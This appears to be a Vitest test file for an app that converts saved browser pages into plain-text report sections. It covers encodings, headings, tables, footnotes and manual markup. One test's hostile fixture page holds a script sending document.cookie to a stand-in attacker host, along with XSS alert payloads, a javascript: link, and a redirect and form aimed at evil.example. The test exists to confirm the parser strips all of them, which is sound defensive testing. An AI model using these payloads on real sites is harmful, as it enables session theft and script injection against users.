import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import type { Library } from '../shared/report-model'
import { formatNotice, type ContentNotice } from './build-library'
import { renderGeneratedContent } from './generate-content'
import { parseHtml } from './parse-html'
import { ContentError } from './content-error'
import { BUNDLED_CONTENT_DIR, SAVED_PAGES_DIR, TempDirs, writeReport } from './test-support'

const page = (body: string) =>
  `<!DOCTYPE html><html><head><title>T</title></head><body>${body}</body></html>`

describe('a page saved from a browser', () => {
  let saved: Library
  let notices: ContentNotice[]
  let fromText: Library
  const fetch = vi.fn()

  beforeAll(() => {
    vi.stubGlobal('fetch', fetch)
    ;({ library: saved, notices } = renderGeneratedContent(SAVED_PAGES_DIR))
    fromText = renderGeneratedContent(BUNDLED_CONTENT_DIR).library
  })
  afterEach(() => vi.unstubAllGlobals())

  it('gives the same six sections and paragraphs as the plain-text capture of the report', () => {
    const [html] = saved.reports
    const [text] = fromText.reports
    expect(html?.format).toBe('html')
    expect(html?.sections).toEqual(text?.sections)
    expect(html?.contentHash).toBe(text?.contentHash)
  })

  it('carries nothing of what the page runs, loads or shows around the article', () => {
    const all = JSON.stringify(saved.reports[0]?.sections)
    for (const chrome of [
      'Text a script would add', // a script's output: scripts never run
      'gtag', // a script's code
      'usa-banner', // a style sheet
      'Search state.gov', // a form
      'does not show frames', // an iframe's fallback
      'officials at a meeting', // an image's description
      'Policy Issues', // the navigation
      'official website', // the .gov banner
      'On This Page',
      'Privacy Policy', // the footer
      'Lessons of 1989',
      'https://'
    ]) {
      expect(all).not.toContain(chrome)
    }
    expect(fetch).not.toHaveBeenCalled()
  })

  it('says what it dropped', () => {
    expect(notices.map(formatNotice)).toEqual([
      'crt2021-kazakhstan.html: dropped what the page runs or loads (3 scripts, 2 style sheets, 4 forms and form fields, 1 embedded frame, 5 images and media elements): the app holds only text',
      'crt2021-kazakhstan.html: dropped the page around the article (its header, navigation, sidebars and footer: 646 characters)',
      'crt2021-kazakhstan.html: dropped the page title ("Country Reports on Terrorism 2021…", 2 lines): it repeats the report\'s title'
    ])
  })
})

describe('a saved page in the encoding it declares', () => {
  const temp = new TempDirs()
  afterEach(() => temp.cleanup())
  const build = (bytes: Buffer) => {
    const dir = temp.make()
    writeReport(dir, 'page.html', '')
    writeFileSync(join(dir, 'page.html'), bytes)
    try {
      return renderGeneratedContent(dir).library.reports[0]?.sections
    } catch (error) {
      if (error instanceof ContentError) return error.problems.map((p) => p.problem)
      throw error
    }
  }
  /** A page as an older site serves it, one byte a character: ’ “ ” are 0x92-0x94 in windows-1252. */
  const older = (charset: string) =>
    Buffer.from(
      [
        `<html><head><meta http-equiv="Content-Type" content="text/html; charset=${charset}"></head>`,
        '<body><h2>Overview</h2><p>Kazakhstan’s “five-year” program.</p></body></html>'
      ]
        .join('')
        .split('')
        .map((c) => ({ '’': 0x92, '“': 0x93, '”': 0x94 })[c] ?? c.charCodeAt(0))
    )

  it('reads a page in windows-1252, as older sites and browsers save them', () => {
    expect(build(older('windows-1252'))).toEqual([
      {
        id: 'overview',
        heading: 'Overview',
        paragraphs: [{ id: 'overview-p1', text: 'Kazakhstan’s “five-year” program.' }]
      }
    ])
  })

  it('refuses a page in an encoding it does not know, saying what to do', () => {
    expect(build(older('x-made-up'))).toEqual([
      'the page says its characters are in "x-made-up", an encoding the build does not know; save the page again as UTF-8'
    ])
  })
})

describe('parseHtml', () => {
  it('keeps headings with their levels, lists, tables and quotes as the model’s blocks', () => {
    const { sections } = parseHtml(
      page(`<article>
        <h2>Overview</h2><p>Text of the <a href="https://example.org">section</a>,<br>on two lines.</p>
        <h3>Border Security</h3>
        <ol start="3"><li>Three<ul><li>A detail</li></ul></li><li value="7">Seven</li></ol>
        <table><thead><tr><th>Year</th><th>Cases</th></tr></thead><tbody><tr><td>2020</td><td>3</td></tr></tbody></table>
        <blockquote><p>Quoted one.</p><p>Quoted two.</p></blockquote>
        <h2>Cooperation</h2><table><tr><th>Partner</th></tr></table>
      </article>`)
    )
    expect(sections).toEqual([
      {
        heading: 'Overview',
        blocks: [
          {
            text: 'Text of the section, on two lines.',
            marks: [{ start: 12, end: 19, kind: 'link', href: 'https://example.org' }]
          }
        ]
      },
      {
        heading: 'Border Security',
        level: 2,
        blocks: [
          { text: 'Three', block: { kind: 'list-item', ordered: true, depth: 1, number: 3 } },
          { text: 'A detail', block: { kind: 'list-item', ordered: false, depth: 2 } },
          { text: 'Seven', block: { kind: 'list-item', ordered: true, depth: 1, number: 7 } },
          {
            text: 'Year | Cases',
            block: {
              kind: 'table-row',
              table: 1,
              header: true,
              cells: [
                [0, 4],
                [7, 12]
              ]
            }
          },
          {
            text: '2020 | 3',
            block: {
              kind: 'table-row',
              table: 1,
              header: false,
              cells: [
                [0, 4],
                [7, 8]
              ]
            }
          },
          { text: 'Quoted one.', block: { kind: 'quote' } },
          { text: 'Quoted two.', block: { kind: 'quote' } }
        ]
      },
      {
        heading: 'Cooperation',
        blocks: [
          { text: 'Partner', block: { kind: 'table-row', table: 1, header: true, cells: [[0, 7]] } }
        ]
      }
    ])
  })

  it('keeps a page’s parts and their subsections at two levels, though Readability renames <h1>', () => {
    const prose = (n: number) =>
      '<p>A paragraph of the report, long enough, with commas, to read as an article.</p>'.repeat(n)
    const { sections } = parseHtml(
      page(
        `<article><h1>Part One</h1>${prose(3)}<h2>Details</h2>${prose(3)}<h1>Part Two</h1>${prose(2)}</article>`
      )
    )
    expect(sections.map(({ heading, level }) => ({ heading, level }))).toEqual([
      { heading: 'Part One', level: undefined },
      { heading: 'Details', level: 2 },
      { heading: 'Part Two', level: undefined }
    ])
    // A page's one <h1> before its <h2>s is its title: level 1 beside them, as in Markdown.
    const titled = parseHtml(
      page(
        `<article><h1>Guide</h1>${prose(1)}<h2>One</h2>${prose(3)}<h2>Two</h2>${prose(3)}</article>`
      )
    )
    expect(titled.sections.map(({ heading, level }) => [heading, level ?? 1])).toEqual([
      ['Guide', 1],
      ['One', 1],
      ['Two', 1]
    ])
  })

  it('takes a bold label and colon at the start of a paragraph as a heading, not a plain one', () => {
    const { sections } = parseHtml(
      page(
        '<p><strong>Overview:</strong>&nbsp; Body.</p><p>Note: a plain sentence.</p><p><b>Details</b>: More.</p>'
      )
    )
    expect(sections).toEqual([
      { heading: 'Overview', blocks: [{ text: 'Body.' }, { text: 'Note: a plain sentence.' }] },
      { heading: 'Details', blocks: [{ text: 'More.' }] }
    ])
  })

  it('reads a page that is only a fragment, as a browser would', () => {
    expect(parseHtml('<h2>Overview</h2><p>Body.</p>').sections).toEqual([
      { heading: 'Overview', blocks: [{ text: 'Body.' }] }
    ])
  })

  it('keeps the last word of a page cut off in the middle of it, and says the page looks cut off', () => {
    const source = readFileSync(join(SAVED_PAGES_DIR, 'crt2021-kazakhstan.html'), 'utf8')
    const cut = source.slice(
      0,
      source.indexOf('helped three Afghan citizens') + 'helped three Afg'.length
    )
    const parsed = parseHtml(cut)
    expect(parsed.sections.at(-1)?.blocks.at(-1)?.text).toMatch(/ that helped three Afg$/)
    expect(parsed.notices.filter((n) => n.kind === 'warning').map((n) => n.message)).toEqual([
      'the page looks cut off: the file stops before the end of the page (it has no closing </html>). Everything up to there is kept; save the page again if it is not complete.'
    ])
  })

  it('carries only the words of a hostile page: nothing it runs, loads, submits or hides', () => {
    const fetch = vi.fn()
    vi.stubGlobal('fetch', fetch)
    const parsed = parseHtml(`<!DOCTYPE html><html><head>
      <meta http-equiv="refresh" content="0; url=https://evil.example/">
      <base href="https://evil.example/">
      <link rel="preload" href="https://evil.example/font.woff2" as="font">
      <link rel="stylesheet" href="https://evil.example/a.css">
      <style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c.png) }</style>
      <script>fetch('https://evil.example/steal?' + document.cookie)</script>
      </head><body onload="alert('onload')"><article>
      <h2 onclick="alert('heading')">Overview</h2>
      <p>Kept text.<script>alert(1)</script> More kept text with a <a href="javascript:alert(2)">link’s words</a>.</p>
      <p><img src="https://evil.example/pixel.gif" onerror="alert(3)" alt="tracking pixel">Text beside an image.</p>
      <svg><script>alert(4)</script><text>drawn text</text></svg>
      <object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/y">
      <iframe srcdoc="<p>frame text</p>"></iframe>
      <form action="https://evil.example/post"><input name="q" value="typed"><button>Send</button>
      <textarea>textarea text</textarea><select><option>option text</option></select></form>
      <template><p>template text</p></template><noscript><p>noscript text</p></noscript>
      <!-- comment text -->
      <p>&lt;script&gt;alert(5)&lt;/script&gt; is kept as the words it is.</p>
      <h2>Cooperation</h2><p>The last paragraph.</p>
      </article></body></html>`)
    expect(parsed.sections).toEqual([
      {
        heading: 'Overview',
        blocks: [
          { text: 'Kept text. More kept text with a link’s words.' },
          { text: 'Text beside an image.' },
          { text: '<script>alert(5)</script> is kept as the words it is.' }
        ]
      },
      { heading: 'Cooperation', blocks: [{ text: 'The last paragraph.' }] }
    ])
    expect(parsed.notices.map((notice) => notice.message)).toEqual([
      'dropped what the page runs or loads (3 scripts, 1 no-script fallback, 2 style sheets, 5 forms and form fields, 1 embedded frame, 2 images and media elements, 2 embedded objects, 1 template or dialog): the app holds only text'
    ])
    expect(fetch).not.toHaveBeenCalled()
  })

  it('finds no sections in a page without headings', () => {
    expect(parseHtml(page('<p>Just prose.</p><p>More prose.</p>')).sections).toEqual([])
  })
})

/**
 * Headings, contents and footnotes as the generators of real manuals write them (the markup of
 * their pages, shortened): Sphinx (Furo), MkDocs, Node's API docs, Javadoc, pandoc.
 */
describe('parseHtml: the pages real manuals are', () => {
  const prose = '<p>A paragraph of the manual, long enough, with commas, to read as one.</p>'
  const headingsOf = (html: string) =>
    parseHtml(html).sections.map((s) => [s.heading, s.level ?? 1])

  it('drops Sphinx’s and MkDocs’ permalink marks (¶) and keeps a manual’s note as its text', () => {
    const { sections, notices } = parseHtml(
      `<html><head><title>4.1. Simple invariants - Tutorials</title></head><body><div class="page"><aside class="sidebar-drawer"><ul><li><a href="../index.html">Index</a></li></ul></aside>
      <article role="main"><section id="simple"><h1><span class="section-number">4.1. </span>Simple invariants<a class="headerlink" href="#simple" title="Link to this heading">¶</a></h1>${prose}
      <section id="a-simple-example"><h2>A simple example<a class="headerlink" href="#a-simple-example" title="Permanent link">&para;</a></h2>${prose}
      <div class="highlight"><pre><span class="k">contract</span> Voting {\n  uint256 public votes;\n}</pre></div>
      <div class="admonition note"><p class="admonition-title">Note</p><p>The invariant also holds after the constructor.</p></div></section>
      <section id="ball-game"><h2>Ball Game<a class="headerlink" href="#ball-game">¶</a></h2>${prose}</section></section></article></div></body></html>`
    )
    expect(sections.map((s) => [s.heading, s.level ?? 1])).toEqual([
      ['4.1. Simple invariants', 1],
      ['A simple example', 1],
      ['Ball Game', 1]
    ])
    expect(sections[1]?.blocks.map((b) => [b.block?.kind ?? 'paragraph', b.text])).toEqual([
      ['paragraph', 'A paragraph of the manual, long enough, with commas, to read as one.'],
      ['code', 'contract Voting {\n  uint256 public votes;\n}'],
      ['paragraph', 'Note'],
      ['paragraph', 'The invariant also holds after the constructor.']
    ])
    expect(notices.map((n) => n.message)).toContain(
      'dropped the permalink marks beside 3 headings ("#", "¶"): links to the page\'s own places'
    )
  })

  it('keeps the page heading of Node’s docs, which repeats the page title, without its "#"', () => {
    expect(
      headingsOf(`<html><head><title>File system | Node.js v24 Documentation</title></head><body>
      <div id="column1"><div id="apicontent">
      <h2>File system<span><a class="mark" href="#file-system" id="file-system">#</a></span><a aria-hidden="true" class="legacy" id="fs_file_system"></a></h2>${prose}${prose}
      <h3>Promise example<span><a class="mark" href="#promise-example" id="promise-example">#</a></span></h3>${prose}
      <h3>Callback example<span><a class="mark" href="#callback-example" id="callback-example">#</a></span></h3>${prose}
      </div></div></body></html>`)
    ).toEqual([
      ['File system', 1],
      ['Promise example', 2],
      ['Callback example', 2]
    ])
  })

  it('reads a Javadoc-style page: its title, its sections and its code', () => {
    const { sections } = parseHtml(`<html><head><title>Parser (Example API)</title></head><body>
      <header><nav><a href="#skip-navbar-top">Skip navigation links</a><ul><li><a href="package-summary.html">Package</a></li></ul></nav></header>
      <main role="main"><div class="header"><h1 title="Class Parser" class="title">Class Parser</h1></div>
      <section class="class-description">${prose}<pre><code>Parser p = new Parser();\np.parse(text);</code></pre></section>
      <section class="method-details"><h2>Method Details</h2><section class="detail"><h3>parse</h3><div class="member-signature"><code>public Document parse(String text)</code></div>${prose}</section>
      <section class="detail"><h3>reset</h3>${prose}</section></section></main></body></html>`)
    expect(sections.map((s) => [s.heading, s.level ?? 1])).toEqual([
      ['Class Parser', 1],
      ['Method Details', 1],
      ['parse', 2],
      ['reset', 2]
    ])
    expect(sections[0]?.blocks.map((b) => b.block?.kind ?? 'paragraph')).toEqual([
      'paragraph',
      'code'
    ])
  })

  it('drops a pandoc page’s own table of contents and keeps its footnotes as footnotes', () => {
    const { sections, notices } = parseHtml(`<html><head><title>Briefing</title></head><body>
      <nav id="TOC" role="doc-toc"><ul><li><a href="#overview" id="toc-overview">Overview</a></li><li><a href="#law" id="toc-law">Law</a><ul><li><a href="#agencies" id="toc-agencies">Agencies</a></li></ul></li></ul></nav>
      <h2 id="overview">Overview</h2><p>Counterterrorism,<a href="#fn1" class="footnote-ref" id="fnref1" role="doc-noteref"><sup>1</sup></a> arranged by region.</p>
      <ul><li>Borders</li><li>Prisons</li></ul>
      <h2 id="law">Law</h2><p>Text.</p>
      <section id="footnotes" class="footnotes footnotes-end-of-document" role="doc-endnotes"><hr /><ol><li id="fn1"><p>From the 2021 report.<a href="#fnref1" class="footnote-back" role="doc-backlink">↩︎</a></p></li></ol></section>
      </body></html>`)
    expect(sections).toEqual([
      {
        heading: 'Overview',
        blocks: [
          {
            text: 'Counterterrorism,[1] arranged by region.',
            footnoteRefs: [{ start: 17, end: 20, label: '1' }]
          },
          { text: 'Borders', block: { kind: 'list-item', ordered: false, depth: 1 } },
          { text: 'Prisons', block: { kind: 'list-item', ordered: false, depth: 1 } }
        ]
      },
      { heading: 'Law', blocks: [{ text: 'Text.' }] },
      {
        heading: 'Footnotes',
        blocks: [{ text: 'From the 2021 report.', block: { kind: 'footnote', label: '1' } }]
      }
    ])
    expect(notices.map((n) => n.message)).toContain(
      "dropped the page's own table of contents (3 links to its headings): the app has its own"
    )
  })

  it('keeps a list of links that is the article, not its contents', () => {
    const { sections } = parseHtml(
      `<h2>Reading</h2><p>Read these:</p><ul><li><a href="https://example.org/a">The first report</a></li><li><a href="https://example.org/b">The second</a></li><li><a href="https://example.org/c">The third</a></li></ul>`
    )
    expect(sections[0]?.blocks.map((b) => b.text)).toEqual([
      'Read these:',
      'The first report',
      'The second',
      'The third'
    ])
  })
})
